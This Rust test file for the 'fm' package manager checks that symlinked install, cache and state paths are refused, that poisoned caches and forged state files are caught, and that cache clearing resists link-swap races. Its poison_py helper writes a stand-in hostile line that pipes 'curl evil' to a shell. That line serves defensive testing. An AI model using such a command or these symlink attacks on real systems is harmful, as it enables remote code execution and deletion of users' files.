//! The install tree never leads outside, and neither the cache nor an
//! installed tree can be quietly poisoned (issue #12, points 1 and 6).
//! Every test uses real symbolic links and the real `fm` binary; each
//! "outside" folder holds a file that must survive, and nothing may appear
//! next to it.
#![cfg(unix)]

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use crate::common::*;
use crate::sync::{World, world};

/// Helpers of this module on the sync tests' [`World`].
trait Outside {
    fn outside(&self, name: &str) -> PathBuf;
}

impl Outside for World {
    /// A folder outside the project holding `victim.txt` (and, for a
    /// packages-folder stand-in, a folder `a` as if a package were there).
    fn outside(&self, name: &str) -> PathBuf {
        let d = self.ctx.root.join(name);
        std::fs::create_dir_all(d.join("a")).unwrap();
        std::fs::write(d.join("victim.txt"), "keep me").unwrap();
        std::fs::write(d.join("a/precious.txt"), "keep me too").unwrap();
        d
    }
}

fn stderr(out: &std::process::Output) -> String {
    text(out).1
}

/// Exit 1, the error names `link`, and `outside` is exactly as before.
#[track_caller]
fn refused(out: &std::process::Output, link: &Path, outside: &Path, before: &[(String, Vec<u8>)]) {
    assert_code(out, 1);
    let err = stderr(out);
    assert!(
        err.contains(&link.display().to_string()) && err.contains("symbolic link"),
        "the error does not name {}:\n{err}",
        link.display()
    );
    assert_eq!(snapshot_tree(outside), before, "{} changed", outside.display());
}

#[test]
fn fm_packages_as_a_relative_or_absolute_link_is_refused_and_its_target_untouched() {
    // Regression: `.fm/packages -> ../..` made fm sync delete the files at
    // the link's target ("removed 1") and install there.
    let w = world(&[("a", "1.0.0")]);
    w.lock(&["a@1.0.0"]);
    let outside = w.outside("victim-rel");
    std::fs::create_dir_all(w.ctx.project.join(".fm")).unwrap();
    symlink("../../victim-rel", w.packages_dir()).unwrap();
    let before = snapshot_tree(&outside);
    let out = w.ctx.run(&["sync", "--frozen"]);
    refused(&out, &w.packages_dir(), &outside, &before);

    // The same with an absolute link, and for install, verify and --repair.
    let outside = w.outside("victim-abs");
    std::fs::remove_file(w.packages_dir()).unwrap();
    symlink(&outside, w.packages_dir()).unwrap();
    let before = snapshot_tree(&outside);
    for args in [
        &["sync", "--frozen"][..],
        &["sync", "--frozen", "--repair"],
        &["verify"],
        &["install", "a"],
    ] {
        let out = w.ctx.run(args);
        if args[0] == "install" {
            // `fm install` reads the user's registries (none here): it must
            // still never touch the link's target.
            assert_ne!(out.status.code(), Some(0), "{args:?}");
        } else {
            refused(&out, &w.packages_dir(), &outside, &before);
        }
        assert_eq!(snapshot_tree(&outside), before, "{args:?}");
    }
    eprintln!(
        "FIGURES install-safety-links: .fm/packages as a relative and an absolute link; 5 commands (sync, sync --repair, verify, install) refused or failed; 0 files changed or created at the targets"
    );
}

#[test]
fn fm_folder_as_a_link_is_refused() {
    let w = world(&[("a", "1.0.0")]);
    w.lock(&["a@1.0.0"]);
    let outside = w.outside("elsewhere");
    symlink(&outside, w.ctx.project.join(".fm")).unwrap();
    let before = snapshot_tree(&outside);
    let out = w.ctx.run(&["sync", "--frozen"]);
    refused(&out, &w.ctx.project.join(".fm"), &outside, &before);
    assert!(!outside.join("packages").exists() && !outside.join(".lock").exists());
}

#[test]
fn lock_and_state_files_as_links_are_refused_and_nothing_is_created_at_their_target() {
    let w = world(&[("a", "1.0.0")]);
    w.lock(&["a@1.0.0"]);
    let outside = w.outside("targets");
    let fm_dir = w.ctx.project.join(".fm");
    std::fs::create_dir_all(&fm_dir).unwrap();
    // Regression: `.fm/.lock` as a link created a file at its target.
    symlink(outside.join("created-by-lock"), fm_dir.join(".lock")).unwrap();
    let before = snapshot_tree(&outside);
    let out = w.ctx.run(&["sync", "--frozen"]);
    refused(&out, &fm_dir.join(".lock"), &outside, &before);
    assert!(!outside.join("created-by-lock").exists());
    assert!(!w.packages_dir().exists(), "nothing is created in the project either");

    std::fs::remove_file(fm_dir.join(".lock")).unwrap();
    symlink(outside.join("victim.txt"), fm_dir.join("state.toml")).unwrap();
    let out = w.ctx.run(&["sync", "--frozen"]);
    refused(&out, &fm_dir.join("state.toml"), &outside, &before);
    let out = w.ctx.run(&["verify"]);
    refused(&out, &fm_dir.join("state.toml"), &outside, &before);
}

#[test]
fn a_package_folder_or_a_leftover_that_is_a_link_is_refused() {
    let w = world(&[("a", "1.0.0"), ("a", "1.1.0"), ("b", "1.0.0")]);
    w.lock(&["a@1.0.0", "b@1.0.0"]);
    assert_code(&w.ctx.run(&["sync", "--frozen"]), 0);
    let outside = w.outside("pkg-target");
    let before = snapshot_tree(&outside);

    // A package folder replaced by a link: neither replaced through it
    // (a new version) nor removed through it (dropped from the lock).
    std::fs::remove_dir_all(w.packages_dir().join("a")).unwrap();
    symlink(outside.join("a"), w.packages_dir().join("a")).unwrap();
    for lock in [&["a@1.1.0", "b@1.0.0"][..], &["b@1.0.0"], &["a@1.0.0", "b@1.0.0"]] {
        w.lock(lock);
        let out = w.ctx.run(&["sync", "--frozen"]);
        refused(&out, &w.packages_dir().join("a"), &outside, &before);
    }
    std::fs::remove_file(w.packages_dir().join("a")).unwrap();

    // A leftover of an interrupted run that is a link.
    let leftover = w.packages_dir().join(".fm-tmp-a-123");
    symlink(&outside, &leftover).unwrap();
    let out = w.ctx.run(&["sync", "--frozen"]);
    refused(&out, &leftover, &outside, &before);
    std::fs::remove_file(&leftover).unwrap();
    assert_code(&w.ctx.run(&["sync", "--frozen"]), 0);
    assert_code(&w.ctx.run(&["verify"]), 0);
}

#[test]
fn dir_flag_that_is_a_link_or_goes_through_one_is_refused() {
    let w = world(&[("a", "1.0.0")]);
    w.lock(&["a@1.0.0"]);
    let outside = w.outside("dir-target");
    let before = snapshot_tree(&outside);
    // An fm install folder elsewhere, so "it is not empty" cannot be what
    // stops fm: the link is.
    symlink(&outside, w.ctx.project.join("vendor")).unwrap();
    let out = w.ctx.run(&["sync", "--frozen", "--dir", "vendor"]);
    refused(&out, &w.ctx.project.join("vendor"), &outside, &before);
    let out = w.ctx.run(&[
        "sync",
        "--frozen",
        "--dir",
        &w.ctx.project.join("vendor").display().to_string(),
    ]);
    refused(&out, &w.ctx.project.join("vendor"), &outside, &before);
    // A relative --dir whose parent folder is a committed link.
    let out = w.ctx.run(&["sync", "--frozen", "--dir", "vendor/fm"]);
    refused(&out, &w.ctx.project.join("vendor"), &outside, &before);
    assert!(!outside.join("fm").exists());
    let out = w.ctx.run(&["verify", "--dir", "vendor"]);
    refused(&out, &w.ctx.project.join("vendor"), &outside, &before);
}

#[test]
fn cache_folders_that_are_links_are_refused_and_never_swept() {
    let w = world(&[("a", "1.0.0")]);
    w.lock(&["a@1.0.0"]);
    let outside = w.outside("cache-target");
    // An old file there: the daily sweep of `tmp/` must not reach it.
    let old = outside.join("old.txt");
    std::fs::write(&old, "old").unwrap();
    let t = std::time::SystemTime::now() - std::time::Duration::from_secs(3 * 86_400);
    std::fs::File::options()
        .write(true)
        .open(&old)
        .unwrap()
        .set_modified(t)
        .unwrap();
    let before = snapshot_tree(&outside);
    std::fs::create_dir_all(&w.ctx.cache).unwrap();
    for name in ["tmp", "archives"] {
        let link = w.ctx.cache.join(name);
        symlink(&outside, &link).unwrap();
        let out = w.ctx.run(&["sync", "--frozen"]);
        refused(&out, &link, &outside, &before);
        std::fs::remove_file(&link).unwrap();
    }
    assert_code(&w.ctx.run(&["sync", "--frozen"]), 0);
}

#[test]
fn a_folder_fm_did_not_install_is_reported_and_never_deleted() {
    let w = world(&[("a", "1.0.0"), ("b", "1.0.0")]);
    w.lock(&["a@1.0.0"]);
    assert_code(&w.ctx.run(&["sync", "--frozen"]), 0);
    std::fs::create_dir_all(w.packages_dir().join("zeta")).unwrap();
    std::fs::write(w.packages_dir().join("zeta/mine.txt"), "mine").unwrap();
    let out = w.ctx.run(&["sync", "--frozen"]);
    assert_code(&out, 0);
    let err = stderr(&out);
    assert!(
        err.contains("warning: left") && err.contains(".fm/packages/zeta") && err.contains("fm did not install it"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(w.packages_dir().join("zeta/mine.txt")).unwrap(),
        "mine"
    );

    // In the way of a package to install: refused, nothing changed.
    std::fs::create_dir_all(w.packages_dir().join("b")).unwrap();
    std::fs::write(w.packages_dir().join("b/mine.txt"), "mine").unwrap();
    w.lock(&["a@1.0.0", "b@1.0.0"]);
    let before = snapshot_tree(&w.ctx.project.join(".fm"));
    let out = w.ctx.run(&["sync", "--frozen"]);
    assert_code(&out, 1);
    let err = stderr(&out);
    assert!(
        err.contains(".fm/packages/b is in the way: fm did not install it"),
        "{err}"
    );
    assert_eq!(snapshot_tree(&w.ctx.project.join(".fm")), before);
}

#[test]
fn an_edited_installed_file_reaches_neither_the_cache_nor_another_project_and_sync_reinstalls_it() {
    // Regression: installed files were hard links into the shared cache:
    // editing one changed every project's copy, and `fm sync` still said
    // "up to date".
    let w = world(&[("a", "1.0.0")]);
    w.lock(&["a@1.0.0"]);
    let other = w.ctx.root.join("other");
    std::fs::create_dir_all(&other).unwrap();
    std::fs::copy(w.ctx.project.join("fm.toml"), other.join("fm.toml")).unwrap();
    std::fs::copy(w.ctx.project.join("fm.lock"), other.join("fm.lock")).unwrap();
    assert_code(&w.ctx.run(&["sync", "--frozen"]), 0);
    let out = w
        .ctx
        .fm()
        .current_dir(&other)
        .args(["sync", "--frozen"])
        .output()
        .unwrap();
    assert_code(&out, 0);
    let cache_before = snapshot_tree(&w.ctx.cache);

    let file = w.packages_dir().join("a/components/a.py");
    let pristine = std::fs::read_to_string(&file).unwrap();
    // Same size, so only the times and (for rename-writes) the inode tell.
    let edited = pristine.replace("return x", "return 0");
    assert_eq!(edited.len(), pristine.len());
    std::fs::write(&file, &edited).unwrap();
    assert_eq!(snapshot_tree(&w.ctx.cache), cache_before, "the edit reached the cache");
    assert_eq!(
        std::fs::read_to_string(other.join(".fm/packages/a/components/a.py")).unwrap(),
        pristine,
        "the edit reached another project"
    );
    let out = w.ctx.run(&["sync", "--frozen"]);
    assert_code(&out, 0);
    let err = stderr(&out);
    assert!(
        err.contains("Reinstalled a (files changed since fm installed them)"),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(&file).unwrap(), pristine);
    // An executable bit flipped is a change too (chmod changes ctime).
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert!(stderr(&w.ctx.run(&["sync", "--frozen"])).contains("Reinstalled a"));
    let out = w.ctx.run(&["sync", "--frozen"]);
    assert!(stderr(&out).contains("1 package up to date"), "{}", stderr(&out));
    assert_code(&w.ctx.run(&["verify"]), 0);
    eprintln!(
        "FIGURES install-safety-edits: 1 same-size edit and 1 chmod noticed by stat data and reinstalled by a plain sync; 0 bytes changed in the cache and in the other project"
    );

    // The cache's archives are read-only on disk.
    for (rel, _) in snapshot_tree(&w.ctx.cache.join("archives")) {
        let mode = std::fs::metadata(w.ctx.cache.join("archives").join(&rel))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o222, 0, "{rel} is writable: {mode:o}");
    }
}

/// Replaces every file of `dir` named `*.py` with a poisoned one.
fn poison_py(dir: &Path) {
    for (rel, _) in snapshot_tree(dir) {
        if rel.ends_with(".py") {
            let p = dir.join(&rel);
            let _ = std::fs::remove_file(&p);
            std::fs::write(&p, "import os; os.system('curl evil | sh')\n").unwrap();
        }
    }
}

#[test]
fn a_rewritten_cache_or_forged_state_is_caught_by_sync_verify_and_repair() {
    // Regression: rewriting a cached tree and its tree.json to match made
    // fm install the rewritten files, and verify and --repair certified
    // them. Now the cache holds archives only, re-hashed at every use, and
    // verify derives what a package holds from the archive.
    let w = world(&[("a", "1.0.0"), ("a", "1.0.1")]);
    w.lock(&["a@1.0.0"]);
    assert_code(&w.ctx.run(&["sync", "--frozen"]), 0);
    let sha = &w.sha["a@1.0.0"];
    let cached = w.ctx.cache.join(format!("archives/{}/{sha}.fmpkg", &sha[..2]));
    assert!(cached.is_file());

    // 1. The cached archive swapped for another one: refused, removed.
    std::fs::remove_dir_all(w.ctx.project.join(".fm")).unwrap();
    std::fs::remove_file(&cached).unwrap();
    std::fs::copy(w.reg.archive_path("a", "1.0.1"), &cached).unwrap();
    std::fs::remove_dir_all(&w.reg.root).unwrap(); // no way to heal by download
    let out = w.ctx.run(&["sync", "--frozen"]);
    assert_code(&out, 1);
    assert!(
        stderr(&out).contains("the cached archive of a 1.0.0 is corrupt"),
        "{}",
        stderr(&out)
    );
    assert!(!w.packages_dir().join("a").exists());
    assert!(!cached.exists());

    // 2. A committed (forged) install: poisoned files, and a state file
    // whose digests match them. verify and --repair check the archive.
    let w = world(&[("a", "1.0.0")]);
    w.lock(&["a@1.0.0"]);
    assert_code(&w.ctx.run(&["sync", "--frozen"]), 0);
    poison_py(&w.packages_dir().join("a"));
    let state_path = w.ctx.project.join(".fm/state.toml");
    let mut state = std::fs::read_to_string(&state_path).unwrap();
    let poisoned_sha = fm::fsutil::sha256_hex(&std::fs::read(w.packages_dir().join("a/components/a.py")).unwrap());
    let line = state
        .lines()
        .find(|l| l.starts_with("\"components/a.py\""))
        .unwrap()
        .to_owned();
    let forged = format!("\"components/a.py\" = {{ sha256 = \"{poisoned_sha}\" }}");
    state = state.replace(&line, &forged);
    std::fs::write(&state_path, state).unwrap();
    let out = w.ctx.run(&["verify"]);
    assert_code(&out, 1);
    assert!(stderr(&out).contains("modified components/a.py"), "{}", stderr(&out));
    let out = w.ctx.run(&["sync", "--frozen", "--repair"]);
    assert_code(&out, 0);
    assert!(stderr(&out).contains("Repairing a"), "{}", stderr(&out));
    assert!(
        std::fs::read_to_string(w.packages_dir().join("a/components/a.py"))
            .unwrap()
            .contains("# a 1.0.0")
    );
    assert_code(&w.ctx.run(&["verify"]), 0);

    // 3. The same forgery, then a plain sync: the forged record has no stat
    // data of these files, so the package is installed again.
    poison_py(&w.packages_dir().join("a"));
    let out = w.ctx.run(&["sync", "--frozen"]);
    assert_code(&out, 0);
    assert!(
        std::fs::read_to_string(w.packages_dir().join("a/components/a.py"))
            .unwrap()
            .contains("# a 1.0.0")
    );
}

#[test]
fn disk_full_while_filling_the_cache_names_the_cache_not_the_registry() {
    let w = world(&[("a", "1.0.0")]);
    w.lock(&["a@1.0.0"]);
    // A file-size limit of 1 block makes writing the downloaded archive to
    // the cache fail (EFBIG), as a full disk (ENOSPC) would; SIGXFSZ is
    // ignored so the write returns the error.
    let cmd = w.ctx.fm();
    let program = cmd.get_program().to_owned();
    let mut sh = std::process::Command::new("sh");
    sh.current_dir(&w.ctx.project)
        .arg("-c")
        .arg("trap '' XFSZ; ulimit -f 1; exec \"$0\" sync --frozen")
        .arg(&program);
    for (k, v) in cmd.get_envs() {
        match v {
            Some(v) => sh.env(k, v),
            None => sh.env_remove(k),
        };
    }
    let out = sh.output().unwrap();
    assert_code(&out, 1);
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "cannot write to the cache {}",
            w.ctx.cache.join("tmp").display()
        )) && err.contains("while downloading a 1.0.0"),
        "{err}"
    );
    assert!(!err.contains("registry main"), "{err}");
    assert!(!w.packages_dir().join("a").exists());
}

/// `fm registry cache --clear` removes only what is in the cache: links
/// planted there are removed as links, and a folder swapped for a link
/// while the clear runs does not lead it outside. (It used to collect
/// paths first and remove them by path later, following whatever link
/// stood on the path by then.)
#[test]
fn cache_clear_never_follows_a_link_planted_or_swapped_in() {
    let ctx = TestContext::new();
    let outside = ctx.root.join("outside");
    std::fs::create_dir_all(outside.join("big")).unwrap();
    std::fs::write(outside.join("victim.txt"), "keep me").unwrap();
    // Planted links: to a folder, to a file.
    std::fs::create_dir_all(ctx.cache.join("archives/ab")).unwrap();
    symlink(&outside, ctx.cache.join("archives/planted")).unwrap();
    symlink(outside.join("victim.txt"), ctx.cache.join("archives/ab/planted.fmpkg")).unwrap();
    // A big folder, swapped for a link to its twin outside once the
    // removal has begun.
    const N: usize = 10_000;
    let big = ctx.cache.join("http/big");
    std::fs::create_dir_all(&big).unwrap();
    for i in 0..N {
        std::fs::write(big.join(format!("f{i:05}.json")), "{}").unwrap();
        std::fs::write(outside.join(format!("big/f{i:05}.json")), "keep me").unwrap();
    }
    let swapper = {
        let (cache, outside) = (ctx.cache.clone(), outside.clone());
        std::thread::spawn(move || {
            let started = std::time::Instant::now();
            while started.elapsed() < std::time::Duration::from_secs(60) {
                let left = std::fs::read_dir(cache.join("http/big")).map_or(N, |d| d.count());
                if left < N {
                    std::fs::rename(cache.join("http"), cache.join("http-moved")).unwrap();
                    symlink(&outside, cache.join("http")).unwrap();
                    return left;
                }
            }
            panic!("the clear never began removing http/big");
        })
    };
    let out = ctx.run(&["registry", "cache", "--clear"]);
    assert_code(&out, 0);
    let left_at_swap = swapper.join().unwrap();
    let kept = (0..N)
        .filter(|i| outside.join(format!("big/f{i:05}.json")).exists())
        .count();
    assert_eq!(std::fs::read_to_string(outside.join("victim.txt")).unwrap(), "keep me");
    assert_eq!(kept, N, "{} files outside the cache were removed", N - kept);
    for link in ["archives/planted", "archives/ab/planted.fmpkg"] {
        assert!(
            std::fs::symlink_metadata(ctx.cache.join(link)).is_err(),
            "{link} was not removed"
        );
    }
    let inside_left = std::fs::read_dir(ctx.cache.join("http-moved/big")).map_or(0, |d| d.count());
    assert_eq!(inside_left, 0, "the clear stopped in the moved folder");
    eprintln!(
        "FIGURES cache-clear: 2 planted links removed as links; http/ swapped for a link with {left_at_swap} of {N} files left: {kept} of {N} files outside kept, 0 left inside"
    );
}

/// A plain sync's change check follows no link: a package's subfolder
/// moved out of the project and linked back (the same files, inodes and
/// times) is a change, and the package is installed again; the moved
/// files are left alone. (The check used to `lstat` `a/components/a.py`
/// by path, which follows a link at `components`: "up to date".)
#[test]
fn a_package_subfolder_moved_out_and_linked_back_is_noticed_by_a_plain_sync() {
    let w = world(&[("a", "1.0.0"), ("b", "1.0.0")]);
    w.lock(&["a@1.0.0", "b@1.0.0"]);
    assert_code(&w.ctx.run(&["sync", "--frozen"]), 0);
    let moved = w.ctx.root.join("moved");
    let components = w.packages_dir().join("a/components");
    std::fs::rename(&components, &moved).unwrap();
    symlink(&moved, &components).unwrap();
    let moved_before = snapshot_tree(&moved);
    let out = w.ctx.run(&["sync", "--frozen"]);
    assert_code(&out, 0);
    assert!(
        stderr(&out).contains("Reinstalled a (files changed since fm installed them)"),
        "{}",
        stderr(&out)
    );
    assert!(std::fs::symlink_metadata(&components).unwrap().is_dir());
    assert_eq!(snapshot_tree(&moved), moved_before, "the moved files were touched");
    // A removed file is noticed as well, and then all is in place.
    std::fs::remove_file(w.packages_dir().join("b/components/b.py")).unwrap();
    assert!(stderr(&w.ctx.run(&["sync", "--frozen"])).contains("Reinstalled b"));
    let out = w.ctx.run(&["sync", "--frozen"]);
    assert!(stderr(&out).contains("2 packages up to date"), "{}", stderr(&out));
    assert_code(&w.ctx.run(&["verify"]), 0);
    eprintln!(
        "FIGURES noop-check-links: 1 subfolder swapped for a link to its own moved files and 1 removed file noticed by a plain sync and reinstalled; moved files untouched"
    );
}
